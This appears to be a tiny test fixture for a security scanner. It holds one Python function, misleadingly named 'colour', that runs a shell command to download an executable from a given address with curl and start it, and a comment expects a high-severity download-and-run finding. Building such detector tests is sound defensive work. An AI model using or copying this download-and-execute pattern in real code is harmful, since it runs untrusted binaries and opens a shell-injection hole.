import subprocess


def colour(address, user):
    subprocess.call(f"curl -o C:\\Users\\{user}\\toy.exe {address} && start C:\\Users\\{user}\\toy.exe", shell=True)  # expect: source/download-and-run call high
